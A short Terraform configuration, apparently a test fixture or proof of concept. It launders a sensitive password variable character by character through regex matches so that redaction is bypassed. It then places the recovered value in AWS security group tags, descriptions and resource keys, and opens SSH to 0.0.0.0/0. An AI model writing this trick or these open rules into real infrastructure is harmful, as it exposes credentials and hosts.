variable "pw" {
  type      = string
  sensitive = true
}
locals {
  chars = split("", "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")
  leak  = join("", flatten([for i in range(11) : [for c in local.chars : c if can(regex("^.{${i}}${c}", var.pw))]]))
}
resource "aws_security_group" "open" {
  description = "open"
  vpc_id      = "vpc-1"
  tags        = { Name = local.leak }
  ingress {
    description = local.leak
    from_port   = 22
    to_port     = 22
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }
}
resource "aws_security_group" "k" {
  for_each    = toset([local.leak])
  description = "d"
  vpc_id      = "vpc-1"
  ingress {
    description = "d"
    from_port   = 22
    to_port     = 22
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }
}
